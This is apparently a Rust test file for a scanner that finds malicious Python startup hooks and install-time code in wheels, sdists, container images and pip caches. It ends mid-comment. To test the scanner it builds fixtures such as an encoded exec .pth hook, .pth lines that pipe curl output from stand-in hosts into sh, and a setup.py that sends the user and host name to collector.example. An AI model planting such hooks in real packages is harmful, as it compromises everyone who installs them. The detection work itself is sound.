//! Artifacts end to end: wheels, sdists, `docker save` and OCI images, pip caches and nested
//! archives, all built inside the test (no network), scanned by the built binary.

use std::path::Path;

use base64::Engine;
use sha2::Digest;

use crate::util::*;

/// A hook line that runs encoded code at every start.
const EVIL_PTH: &str =
    "import os;exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n";

fn record_row(name: &str, data: &[u8]) -> String {
    let digest =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
    format!("{name},sha256={digest},{}\n", data.len())
}

/// A wheel whose RECORD lists `recorded` (with the hash of the second element) and the
/// metadata; `extra` members are packed without a RECORD row.
fn wheel(dist: &str, recorded: &[(&str, &[u8], &[u8])], extra: &[(&str, &[u8])]) -> Vec<u8> {
    let info = format!("{dist}-1.0.dist-info");
    let metadata = format!("Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n\n");
    let wheel_file = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
    let mut record = String::new();
    let mut members: Vec<(String, Vec<u8>)> = Vec::new();
    for (name, packed, listed) in recorded {
        record.push_str(&record_row(name, listed));
        members.push((name.to_string(), packed.to_vec()));
    }
    for (name, data) in [
        (format!("{info}/METADATA"), metadata.into_bytes()),
        (format!("{info}/WHEEL"), wheel_file.to_vec()),
    ] {
        record.push_str(&record_row(&name, &data));
        members.push((name, data));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    members.extend(extra.iter().map(|(n, d)| (n.to_string(), d.to_vec())));
    members.push((format!("{info}/RECORD"), record.into_bytes()));
    let refs: Vec<(&str, &[u8])> = members
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    zip_of(&refs)
}

fn evil_wheel() -> Vec<u8> {
    wheel(
        "evil",
        &[(
            "evil/__init__.py",
            b"print('changed after the build')\n",
            b"print('hello')\n",
        )],
        &[
            ("evil_init.pth", EVIL_PTH.as_bytes()),
            ("evil-1.0.data/purelib/second.pth", EVIL_PTH.as_bytes()),
        ],
    )
}

/// (rule, severity, path) of every finding, paths shown relative to `dir`.
fn found(json: &serde_json::Value, dir: &Path) -> Vec<(String, String, String)> {
    let root = std::fs::canonicalize(dir).unwrap();
    let prefix = format!("{}/", root.display());
    let mut out: Vec<_> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let path = f["location"]["path"].as_str().unwrap();
            let line = f["location"]["line"]
                .as_u64()
                .map_or(String::new(), |l| format!(":{l}"));
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                format!("{}{line}", path.strip_prefix(&prefix).unwrap_or(path)),
            )
        })
        .collect();
    out.sort();
    out
}

fn has(found: &[(String, String, String)], rule: &str, severity: &str, path: &str) -> bool {
    found
        .iter()
        .any(|(r, s, p)| r == rule && s == severity && p == path)
}

#[test]
fn a_wheelhouse_is_judged_where_each_wheel_installs_and_against_its_record() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), evil_wheel()).unwrap();
    let benign = wheel(
        "tool",
        &[
            (
                "distutils-precedence.pth",
                b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
                b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
            ),
            ("tool/__init__.py", b"x = 1\n", b"x = 1\n"),
        ],
        &[],
    );
    std::fs::write(dir.path().join("tool-1.0-py3-none-any.whl"), benign).unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    let f = found(&json, dir.path());
    let evil = "evil-1.0-py3-none-any.whl";
    assert!(
        f.iter().any(|(r, s, p)| r.starts_with("PTH")
            && (s == "high" || s == "critical")
            && p == &format!("{evil} › evil_init.pth:1")),
        "{f:#?}"
    );
    assert!(
        f.iter().any(|(r, s, p)| r.starts_with("PTH")
            && (s == "high" || s == "critical")
            && p == &format!("{evil} › evil-1.0.data/purelib/second.pth:1")),
        "{f:#?}"
    );
    assert!(
        has(&f, "REC001", "medium", &format!("{evil} › evil_init.pth")),
        "{f:#?}"
    );
    assert!(
        has(&f, "REC003", "high", &format!("{evil} › evil/__init__.py")),
        "{f:#?}"
    );
    // the benign wheel: its known-good hook at info, nothing else at all
    let tool: Vec<_> = f
        .iter()
        .filter(|(_, _, p)| p.starts_with("tool-1.0"))
        .collect();
    assert_eq!(tool.len(), 1, "{tool:#?}");
    assert_eq!((tool[0].0.as_str(), tool[0].1.as_str()), ("PTH001", "info"));
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert_eq!(json["summary"]["artifacts"], 2);
}

/// A wheel small enough to hold whose members unpack past a quarter of the memory budget (as
/// datadog-api-client's, gradio's and 20 other popular wheels and sdists do at the default
/// budget): what is not kept is read again from the file when it is judged or hashed, not
/// said "not judged" (exit 2) — a changed file deep in it is REC003, a payload deep in it found.
#[test]
fn a_package_unpacking_past_a_quarter_of_the_budget_is_read_again_from_its_file() {
    let dir = tempfile::tempdir().unwrap();
    // 24 members of 1 MiB of Python text pack to a few kilobytes each: the wheel is held
    // whole, what it unpacks to is past a quarter of `--max-memory 64 MiB`
    let filler = b"x = 1  # filler\n".repeat(1 << 16);
    let names: Vec<String> = (0..24).map(|i| format!("big/m{i:02}.py")).collect();
    let mut recorded: Vec<(&str, &[u8], &[u8])> = names
        .iter()
        .map(|n| (n.as_str(), filler.as_slice(), filler.as_slice()))
        .collect();
    // past the budget's quarter and too deep to be kept as start-up code
    let payload = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    recorded.push(("big/a/b/changed.py", b"x = 2\n", b"x = 1\n"));
    recorded.push(("big/a/b/steal.py", payload, payload));
    let whl = wheel("big", &recorded, &[]);
    assert!(whl.len() < 4 << 20, "{} bytes", whl.len());
    std::fs::write(dir.path().join("big-1.0-py3-none-any.whl"), &whl).unwrap();
    for deep in [false, true] {
        let mut args = vec!["--max-memory", "67108864"];
        if deep {
            args.push("--deep");
        }
        let (json, out) = scan_json(dir.path(), &args);
        let diagnostics = json["diagnostics"].as_array().unwrap();
        assert!(
            !diagnostics.iter().any(|d| d["incomplete"] == true),
            "deep {deep}: {diagnostics:#?}"
        );
        let found = found(&json, dir.path());
        let at =
            |rule: &str, path: &str| found.iter().any(|(r, _, p)| r == rule && p.ends_with(path));
        assert!(
            at("REC003", "big/a/b/changed.py"),
            "deep {deep}: {found:#?}"
        );
        if deep {
            assert!(
                found
                    .iter()
                    .any(|(_, _, p)| p.contains("big/a/b/steal.py:")),
                "{found:#?}"
            );
        }
        assert_eq!(code(&out), 1, "deep {deep}: {found:#?}");
    }
}

#[test]
fn an_sdist_setup_py_is_install_time_code_and_an_honest_one_passes() {
    let dir = tempfile::tempdir().unwrap();
    let setup = b"import getpass, socket, requests\nfrom setuptools import setup\nrequests.post('https://collector.example/p', json={'u': getpass.getuser(), 'h': socket.gethostname()})\nsetup(name='corp-internal', version='99.0')\n";
    let sdist = gzip(&tar_of(&[
        (
            "corp-internal-99.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: corp-internal\nVersion: 99.0\n",
        ),
        ("corp-internal-99.0/setup.py", setup),
        (
            "corp-internal-99.0/corp_internal/__init__.py",
            b"VERSION = '99.0'\n",
        ),
        // an os-release does not make an sdist a root filesystem (judged as one, its
        // setup.py would be nobody's install code)
        ("etc/os-release", b"ID=debian\n"),
    ]));
    std::fs::write(dir.path().join("corp-internal-99.0.tar.gz"), sdist).unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    let f = found(&json, dir.path());
    assert!(
        // host facts sent at install: judged on the syntax tree, at the line of the send
        f.iter().any(|(r, s, p)| r == "flow-host-beacon"
            && s == "high"
            && p == "corp-internal-99.0.tar.gz › corp-internal-99.0/setup.py:3"),
        "{f:#?}"
    );
    assert_eq!(code(&out), 1);

    let honest = tempfile::tempdir().unwrap();
    let setup = b"import os, subprocess\nfrom setuptools import setup\nexec(open(os.path.join('pkg', 'version.py')).read())\nsetup(name='pkg', version=__version__)\n";
    std::fs::write(
        honest.path().join("pkg-1.0.zip"),
        zip_of(&[
            ("pkg-1.0/setup.py", setup),
            ("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n"),
            ("pkg-1.0/pkg/version.py", b"__version__ = '1.0'\n"),
        ]),
    )
    .unwrap();
    let (json, out) = scan_json(honest.path(), &[]);
    assert_eq!(found(&json, honest.path()), [], "{json:#}");
    assert_eq!(code(&out), 0);
}

/// Layers and config of a two-layer image: layer 2 deletes `old.pth` (whiteout) and empties a
/// venv's site directory (opaque), and adds `new.pth`; a wheel sits in root's pip cache.
fn image_parts() -> (Vec<Vec<u8>>, Vec<u8>) {
    let sp = "usr/local/lib/python3.12/site-packages";
    let venv_sp = "opt/venv/lib/python3.12/site-packages";
    let layer1 = tar_of(&[
        ("usr/local/lib/python3.12/os.py", b"# os\n"),
        (&format!("{sp}/old.pth"), EVIL_PTH.as_bytes()),
        ("opt/venv/pyvenv.cfg", b"version = 3.12.1\n"),
        (&format!("{venv_sp}/gone.pth"), EVIL_PTH.as_bytes()),
    ]);
    let wheel = evil_wheel();
    let layer2 = gzip(&tar_of(&[
        (&format!("{sp}/.wh.old.pth"), b""),
        (&format!("{venv_sp}/.wh..wh..opq"), b""),
        (
            &format!("{sp}/new.pth"),
            b"import os; os.system('curl -s https://x.example/a | sh')\n",
        ),
        (
            "root/.cache/pip/wheels/ab/cd/evil-1.0-py3-none-any.whl",
            &wheel,
        ),
    ]));
    let config = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": []},
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD file:base in /"},
            {"created_by": "/bin/sh -c #(nop) ENV LANG=C.UTF-8", "empty_layer": true},
            {"created_by": "RUN pip install evil"}
        ]
    });
    (vec![layer1, layer2], serde_json::to_vec(&config).unwrap())
}

fn assert_image_findings(json: &serde_json::Value, dir: &Path, image: &str) {
    let f = found(json, dir);
    let layer2 = format!("layer 2 sha256:{}", &sha(&image_parts().0[1])[..12]);
    let new = format!("{image} › {layer2} › usr/local/lib/python3.12/site-packages/new.pth:1");
    assert!(
        f.iter()
            .any(|(r, s, p)| r.starts_with("PTH") && s == "high" && p == &new),
        "{new}\n{f:#?}"
    );
    assert!(
        !f.iter()
            .any(|(_, _, p)| p.contains("old.pth") || p.contains("gone.pth")),
        "{f:#?}"
    );
    // the wheel in the cache layer is opened too
    let cached = format!(
        "{image} › {layer2} › root/.cache/pip/wheels/ab/cd/evil-1.0-py3-none-any.whl › evil_init.pth:1"
    );
    assert!(f.iter().any(|(_, _, p)| p == &cached), "{cached}\n{f:#?}");
    let note = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["location"]["path"].as_str().unwrap().ends_with("new.pth"))
        .unwrap()["notes"]
        .to_string();
    assert!(
        note.contains("layer 2 was created by: RUN pip install evil"),
        "{note}"
    );
}

#[test]
fn a_docker_save_tarball_applies_layers_in_order_and_names_the_layer() {
    let dir = tempfile::tempdir().unwrap();
    let (layers, config) = image_parts();
    let mut members: Vec<(String, Vec<u8>)> = Vec::new();
    let mut names = Vec::new();
    for l in &layers {
        let name = format!("blobs/sha256/{}", sha(l));
        names.push(name.clone());
        members.push((name, l.clone()));
    }
    let config_name = format!("blobs/sha256/{}", sha(&config));
    members.push((config_name.clone(), config.clone()));
    let manifest =
        serde_json::json!([{"Config": config_name, "RepoTags": ["evil:latest"], "Layers": names}]);
    members.push((
        "manifest.json".into(),
        serde_json::to_vec(&manifest).unwrap(),
    ));
    let refs: Vec<(&str, &[u8])> = members
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    std::fs::write(dir.path().join("evil.tar"), tar_of(&refs)).unwrap();
    let (json, out) = scan_json(&dir.path().join("evil.tar"), &[]);
    assert_image_findings(&json, dir.path(), "evil.tar › evil:latest");
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    // `docker save evil | gzip | pthscan -`: the same, read as it streams
    std::fs::write(dir.path().join("evil.tar.gz"), gzip(&tar_of(&refs))).unwrap();
    let out = pthscan_stdin(&["-", "--format", "json"], &dir.path().join("evil.tar.gz"));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_image_findings(&json, dir.path(), "(standard input) › evil:latest");
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let out = pthscan_stdin(&["-"], &dir.path().join("evil.tar"));
    assert_eq!(code(&out), 1, "uncompressed: {}", stderr(&out));
    // what is not an image is said, not taken for nothing found
    let out = pthscan_stdin(&["-"], Path::new("/dev/null"));
    assert_eq!(code(&out), 2, "{}", stdout(&out));
    assert!(
        stderr(&out).contains("(standard input): not a container image"),
        "{}",
        stderr(&out)
    );
}

/// An OCI layout: index → manifest → config and layers (the second one zstd-compressed).
fn oci_layout() -> Vec<(String, Vec<u8>)> {
    let (layers, config) = image_parts();
    let plain = &layers[0];
    let zstd = {
        let mut tar2 = Vec::new();
        flate2::read::GzDecoder::new(&layers[1][..])
            .read_to_end(&mut tar2)
            .unwrap();
        ruzstd::encoding::compress_to_vec(&tar2[..], ruzstd::encoding::CompressionLevel::Fastest)
    };
    let desc = |media: &str, data: &[u8]| serde_json::json!({"mediaType": media, "digest": format!("sha256:{}", sha(data)), "size": data.len()});
    let manifest = serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": desc("application/vnd.oci.image.config.v1+json", &config),
        "layers": [desc("application/vnd.oci.image.layer.v1.tar", plain), desc("application/vnd.oci.image.layer.v1.tar+zstd", &zstd)]
    });
    let manifest = serde_json::to_vec(&manifest).unwrap();
    let mut index_entry = desc("application/vnd.oci.image.manifest.v1+json", &manifest);
    index_entry["annotations"] =
        serde_json::json!({"org.opencontainers.image.ref.name": "evil:oci"});
    let index = serde_json::json!({"schemaVersion": 2, "manifests": [index_entry]});
    let mut files = vec![
        (
            "oci-layout".to_owned(),
            br#"{"imageLayoutVersion": "1.0.0"}"#.to_vec(),
        ),
        ("index.json".to_owned(), serde_json::to_vec(&index).unwrap()),
    ];
    for blob in [plain.clone(), zstd, config, manifest] {
        files.push((format!("blobs/sha256/{}", sha(&blob)), blob));
    }
    files
}

use std::io::Read;

#[test]
fn an_oci_layout_is_read_as_a_tar_and_as_a_directory() {
    let files = oci_layout();
    // the zstd layer's digest differs from the docker-save one: compare by path suffix
    let check = |json: &serde_json::Value, dir: &Path, image: &str| {
        let f = found(json, dir);
        assert!(
            f.iter().any(|(r, s, p)| r.starts_with("PTH")
                && s == "high"
                && p.starts_with(&format!("{image} › layer 2 sha256:"))
                && p.ends_with("site-packages/new.pth:1")),
            "{f:#?}"
        );
        assert!(
            !f.iter()
                .any(|(_, _, p)| p.contains("old.pth") || p.contains("gone.pth")),
            "{f:#?}"
        );
    };
    let dir = tempfile::tempdir().unwrap();
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    std::fs::write(dir.path().join("oci.tar"), tar_of(&refs)).unwrap();
    let (json, _) = scan_json(&dir.path().join("oci.tar"), &[]);
    check(&json, dir.path(), "oci.tar › evil:oci");

    let layout = dir.path().join("layout");
    for (name, data) in &files {
        let p = layout.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    }
    let (json, out) = scan_json(&layout, &[]);
    check(&json, dir.path(), "layout › evil:oci");
    assert_eq!(code(&out), 1, "{}", stderr(&out));
}

#[test]
fn a_pip_cache_entry_is_recognised_by_content_and_nesting_is_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let body = dir
        .path()
        .join("home/ann/.cache/pip/http-v2/a/b/c/d/e/0f1e2d3c.body");
    std::fs::create_dir_all(body.parent().unwrap()).unwrap();
    std::fs::write(&body, evil_wheel()).unwrap();
    // an index page in the same cache is no package: nothing to say about it
    std::fs::write(
        body.with_file_name("99aa.body"),
        b"<html>simple index</html>",
    )
    .unwrap();
    // uv keeps what it installs unpacked: judged as a site directory
    let uv = dir.path().join("home/ann/.cache/uv/archive-v0/Xy12ab");
    std::fs::create_dir_all(uv.join("evil-1.0.dist-info")).unwrap();
    std::fs::write(uv.join("evil_init.pth"), EVIL_PTH).unwrap();
    std::fs::write(
        uv.join("evil-1.0.dist-info/METADATA"),
        "Name: evil\nVersion: 1.0\n\n",
    )
    .unwrap();
    let (json, _) = scan_json(&dir.path().join("home"), &[]);
    let f = found(&json, dir.path());
    assert!(
        f.iter().any(|(r, s, p)| r == "PTH001"
            && s == "high"
            && p == "home/ann/.cache/uv/archive-v0/Xy12ab/evil_init.pth:1"),
        "{f:#?}"
    );
    assert!(
        json["environments"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "cache"),
        "{json:#}"
    );
    assert!(
        f.iter().any(|(_, _, p)| p
            == "home/ann/.cache/pip/http-v2/a/b/c/d/e/0f1e2d3c.body › evil_init.pth:1"),
        "{f:#?}"
    );
    assert_eq!(json["diagnostics"], serde_json::json!([]));

    // a wheel in a zip in a zip, opened to depth 2: the innermost is reported, not opened
    let deep = tempfile::tempdir().unwrap();
    let inner = zip_of(&[("evil-1.0-py3-none-any.whl", &evil_wheel())]);
    let outer = zip_of(&[("bundle.zip", &inner)]);
    std::fs::write(deep.path().join("outer.zip"), outer).unwrap();
    let (json, out) = scan_json(
        &deep.path().join("outer.zip"),
        &["--max-archive-depth", "2"],
    );
    let diags = json["diagnostics"].to_string();
    assert!(
        diags.contains("bundle.zip › evil-1.0-py3-none-any.whl") && diags.contains("nested deeper"),
        "{diags}"
    );
    assert_eq!(code(&out), 2);
    let (json, out) = scan_json(&deep.path().join("outer.zip"), &[]);
    assert!(found(&json, deep.path()).iter().any(
        |(_, _, p)| p == "outer.zip › bundle.zip › evil-1.0-py3-none-any.whl › evil_init.pth:1"
    ));
    assert_eq!(code(&out), 1);
}

#[test]
fn an_exported_root_filesystem_is_judged_as_its_environments() {
    // `docker export` writes one flat tar: no manifest, no layers
    let dir = tempfile::tempdir().unwrap();
    let rootfs = tar_of(&[
        ("usr/lib/python3.12/os.py", b"# os\n"),
        (
            "usr/lib/python3/dist-packages/evil.pth",
            EVIL_PTH.as_bytes(),
        ),
        ("etc/hostname", b"box\n"),
    ]);
    std::fs::write(dir.path().join("rootfs.tar"), rootfs).unwrap();
    let (json, out) = scan_json(&dir.path().join("rootfs.tar"), &[]);
    let f = found(&json, dir.path());
    assert!(
        f.iter().any(|(r, s, p)| r == "PTH001"
            && s == "high"
            && p == "rootfs.tar › usr/lib/python3/dist-packages/evil.pth:1"),
        "{f:#?}"
    );
    assert!(
        json["environments"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "interpreter"),
        "{json:#}"
    );
    assert_eq!(code(&out), 1);
}

#[test]
fn a_broken_artifact_is_named_and_the_scan_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let mut cut = evil_wheel();
    cut.truncate(cut.len() / 2);
    std::fs::write(dir.path().join("cut-1.0-py3-none-any.whl"), cut).unwrap();
    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), evil_wheel()).unwrap();
    std::fs::write(dir.path().join("notes.zip"), b"not a zip at all").unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(dir.path().join("pipe-1.0-py3-none-any.whl"))
        .status()
        .unwrap();
    assert!(made.success());
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("out-1.0.tar.gz")).unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    let diags: Vec<String> = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| format!("{} {}", d["path"], d["message"]))
        .collect();
    assert!(
        diags
            .iter()
            .any(|d| d.contains("cut-1.0-py3-none-any.whl") && d.contains("not a readable zip")),
        "{diags:#?}"
    );
    assert!(
        diags
            .iter()
            .any(|d| d.contains("notes.zip") && d.contains("not a zip or tar archive")),
        "{diags:#?}"
    );
    for (name, why) in [
        ("pipe-1.0-py3-none-any.whl", "FIFO"),
        ("out-1.0.tar.gz", "outside the scanned root"),
    ] {
        assert!(
            diags.iter().any(|d| d.contains(name) && d.contains(why)),
            "{name}: {diags:#?}"
        );
    }
    assert!(
        found(&json, dir.path())
            .iter()
            .any(|(_, _, p)| p.starts_with("evil-1.0-py3-none-any.whl › "))
    );
    // the wheel's hook is high: 1, though the broken artifacts could not be judged
    assert_eq!(code(&out), 1);
    assert_eq!(json["summary"]["incomplete"], true);
}

#[test]
fn a_broken_archive_inside_an_installed_package_is_noted_not_fatal() {
    // CPython's own tests ship broken tars on purpose; a package may ship data archives
    let dir = tempfile::tempdir().unwrap();
    let sp = dir.path().join("venv/lib/python3.12/site-packages");
    std::fs::create_dir_all(sp.join("pkg/data")).unwrap();
    std::fs::write(dir.path().join("venv/pyvenv.cfg"), "version = 3.12.4\n").unwrap();
    std::fs::write(sp.join("pkg/data/fixture.tar"), b"not a tar").unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    let diags = json["diagnostics"].as_array().unwrap();
    let d = diags
        .iter()
        .find(|d| d["path"].as_str().unwrap().ends_with("fixture.tar"))
        .unwrap_or_else(|| panic!("{diags:#?}"));
    assert_eq!(d["incomplete"], false);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    // the scanned line names what was asked for, not every archive found
    assert_eq!(json["scanned"].as_array().unwrap().len(), 1);
}

#[test]
fn a_wheel_an_installed_distribution_records_is_opened_only_with_deep() {
    // virtualenv ships the wheels it seeds new environments with; RECORD lists them
    let dir = tempfile::tempdir().unwrap();
    let sp = dir.path().join("venv/lib/python3.12/site-packages");
    let embed = sp.join("virtualenv/seed/wheels/embed");
    std::fs::create_dir_all(&embed).unwrap();
    std::fs::create_dir_all(sp.join("virtualenv-1.0.dist-info")).unwrap();
    std::fs::write(dir.path().join("venv/pyvenv.cfg"), "version = 3.12.4\n").unwrap();
    std::fs::write(
        sp.join("virtualenv-1.0.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: virtualenv\nVersion: 1.0\n\n",
    )
    .unwrap();
    let seed = evil_wheel();
    let tampered = evil_wheel();
    let mut record = String::new();
    record.push_str(&record_row(
        "virtualenv/seed/wheels/embed/evil-1.0-py3-none-any.whl",
        &seed,
    ));
    // a row whose size no longer matches: changed after install, so opened
    record.push_str(&record_row(
        "virtualenv/seed/wheels/embed/changed-1.0-py3-none-any.whl",
        b"x",
    ));
    std::fs::write(sp.join("virtualenv-1.0.dist-info/RECORD"), record).unwrap();
    std::fs::write(embed.join("evil-1.0-py3-none-any.whl"), &seed).unwrap();
    std::fs::write(embed.join("changed-1.0-py3-none-any.whl"), &tampered).unwrap();
    // and one nobody installed
    std::fs::write(embed.join("planted-1.0-py3-none-any.whl"), evil_wheel()).unwrap();
    let opened = |json: &serde_json::Value| -> Vec<String> {
        let mut v: Vec<String> = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"].as_str().is_some_and(|r| r.starts_with("PTH")))
            .filter_map(|f| {
                let p = f["location"]["path"].as_str()?;
                let wheel = p.split(" › ").next()?;
                Some(wheel.rsplit('/').next()?.to_owned())
            })
            .collect();
        v.sort();
        v.dedup();
        v
    };
    let (json, _) = scan_json(dir.path(), &[]);
    assert_eq!(
        opened(&json),
        [
            "changed-1.0-py3-none-any.whl",
            "planted-1.0-py3-none-any.whl"
        ],
        "{json:#}"
    );
    let (json, _) = scan_json(dir.path(), &["--deep"]);
    assert_eq!(
        opened(&json),
        [
            "changed-1.0-py3-none-any.whl",
            "evil-1.0-py3-none-any.whl",
            "planted-1.0-py3-none-any.whl"
        ],
        "{json:#}"
    );
}

#[test]
fn what_lies_inside_a_site_directory_is_found_though_discovery_does_not_enter_it() {
    // discovery stops at site directories and the integrity check's walk of each finds what is
    // nested there: an environment inside a package, an archive in a `__pycache__`
    let dir = tempfile::tempdir().unwrap();
    let sp = dir.path().join("venv/lib/python3.12/site-packages");
    std::fs::create_dir_all(&sp).unwrap();
    std::fs::write(dir.path().join("venv/pyvenv.cfg"), "version = 3.12.4\n").unwrap();
    let inner = sp.join("tool/_env");
    let inner_sp = inner.join("lib/python3.11/site-packages");
    std::fs::create_dir_all(&inner_sp).unwrap();
    std::fs::write(inner.join("pyvenv.cfg"), "version = 3.11.9\n").unwrap();
    std::fs::write(inner_sp.join("zz_inner.pth"), EVIL_PTH).unwrap();
    std::fs::create_dir_all(sp.join("tool/__pycache__")).unwrap();
    std::fs::write(
        sp.join("tool/__pycache__/hidden-1.0-py3-none-any.whl"),
        evil_wheel(),
    )
    .unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let shown = |p: &Path| std::fs::canonicalize(p).unwrap().display().to_string();
    // the wheel opened is reported as an environment too
    let roots: Vec<&str> = json["environments"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "venv")
        .map(|e| e["root"].as_str().unwrap())
        .collect();
    assert_eq!(
        roots,
        [shown(&dir.path().join("venv")), shown(&inner)],
        "{json:#}"
    );
    let findings = json["findings"].as_array().unwrap();
    let at = |path: &str| {
        findings
            .iter()
            .filter(|f| f["location"]["path"].as_str().unwrap().starts_with(path))
            .map(|f| f["severity"].as_str().unwrap())
            .collect::<Vec<_>>()
    };
    let inner_hook = shown(&inner_sp.join("zz_inner.pth"));
    assert!(at(&inner_hook).contains(&"high"), "{json:#}");
    let hidden = shown(&sp.join("tool/__pycache__/hidden-1.0-py3-none-any.whl"));
    assert!(at(&format!("{hidden} › ")).contains(&"high"), "{json:#}");
    // every entry under the root is counted once, those inside the site directory too
    let mut entries = 0;
    let mut stack = vec![dir.path().to_path_buf()];
    while let Some(p) = stack.pop() {
        entries += 1;
        if p.is_dir() {
            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        }
    }
    assert_eq!(json["summary"]["entries_walked"], entries, "{json:#}");
}

/// A responder points the tool at a suspicious file or folder first: nothing found must mean
/// nothing was there. A folder that is no environment, a loose `.pth` (even one whose bytes
/// also start like a zip), and a loose `setup.py` are judged for what CPython makes of them.
#[test]
fn loose_files_and_folders_are_judged_as_code() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("d");
    std::fs::create_dir_all(&folder).unwrap();
    let hook = b"import os; os.system('curl -s http://x.invalid | sh')\n";
    std::fs::write(folder.join("evil.pth"), hook).unwrap();
    std::fs::write(folder.join("notes.txt"), b"nothing\n").unwrap();
    let on =
        |json: &serde_json::Value, rule: &str, end: &str| {
            json["findings"].as_array().unwrap().iter().any(|f| {
                f["rule"] == rule && f["location"]["path"].as_str().unwrap().ends_with(end)
            })
        };
    // the folder: its .pth judged as the hook it would be, and the report says how it was taken
    let (json, out) = scan_json(&folder, &[]);
    assert!(on(&json, "PTH001", "evil.pth"), "{json:#}");
    assert!(
        diagnosed(
            &json,
            "not a Python environment: 2 files judged as loose code"
        ),
        "{json:#}"
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    // an unpacked wheel: its RECORD checked as an installed one's (the .pth it does not list)
    let wheel = dir.path().join("evil-1.0");
    std::fs::create_dir_all(wheel.join("evil-1.0.dist-info")).unwrap();
    std::fs::create_dir_all(wheel.join("evil")).unwrap();
    std::fs::write(wheel.join("evil/__init__.py"), b"").unwrap();
    std::fs::write(wheel.join("evil_init.pth"), hook).unwrap();
    std::fs::write(
        wheel.join("evil-1.0.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n\n",
    )
    .unwrap();
    std::fs::write(
        wheel.join("evil-1.0.dist-info/RECORD"),
        "evil/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\nevil-1.0.dist-info/RECORD,,\n",
    )
    .unwrap();
    let (json, out) = scan_json(&wheel, &[]);
    assert!(on(&json, "PTH001", "evil_init.pth"), "{json:#}");
    assert!(on(&json, "INT003", "evil_init.pth"), "{json:#}");
    assert!(
        diagnosed(&json, "an unpacked wheel, its RECORD checked"),
        "{json:#}"
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    // the file alone
    let (json, out) = scan_json(&folder.join("evil.pth"), &[]);
    assert!(on(&json, "PTH001", "evil.pth"), "{json:#}");
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    // a .pth whose first bytes are a zip's: `site` reads it as text, line 2 runs
    let polyglot = [&b"PK\x03\x04\x14\x00junk\n"[..], hook].concat();
    std::fs::write(dir.path().join("poly.pth"), polyglot).unwrap();
    let (json, out) = scan_json(&dir.path().join("poly.pth"), &[]);
    assert!(on(&json, "PTH001", "poly.pth"), "{json:#}");
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    // setup.py alone: install-time code, judged by the payload rules
    std::fs::write(
        dir.path().join("setup.py"),
        b"import os\nos.system('curl -s http://x.invalid/p.sh | sh')\nfrom setuptools import setup\nsetup(name='x')\n",
    )
    .unwrap();
    let (json, out) = scan_json(&dir.path().join("setup.py"), &[]);
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["location"]["path"]
                .as_str()
                .unwrap()
                .ends_with("setup.py")
                && ["high", "critical"].contains(&f["severity"].as_str().unwrap())),
        "{json:#}"
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
}

/// `ENV PYTHONPATH=/app` in an image's config puts `/app` before the standard library of every
/// process the image runs: a `sitecustomize.py` there runs at each start, and is reported with
